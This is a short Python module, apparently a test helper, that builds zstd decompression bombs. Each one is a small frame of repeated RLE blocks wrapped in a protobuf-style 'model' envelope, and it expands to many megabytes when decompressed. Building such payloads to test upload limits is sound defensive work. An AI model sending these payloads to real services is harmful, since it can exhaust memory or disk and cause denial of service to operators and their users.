"""Small uploads that unfold to gigabytes."""


def zstd_bomb(megabytes):
    """A model's envelope around a zstd frame that unfolds to so many megabytes of nothing."""
    block = 128 * 1024
    repeated = ((block << 3) | 0b010).to_bytes(3, "little") + b"\n"
    last = ((block << 3) | 0b011).to_bytes(3, "little") + b"\n"
    frame = b"\x28\xb5\x2f\xfd\x00\x58" + repeated * (megabytes * 8 - 1) + last
    inner = b"\x08\x01\x12" + varint(len(frame)) + frame
    return b"\x12" + varint(len(inner)) + inner


def varint(number):
    parts = bytearray()
    while number > 127:
        parts.append(number & 127 | 128)
        number >>= 7
    return bytes(parts) + bytes([number])
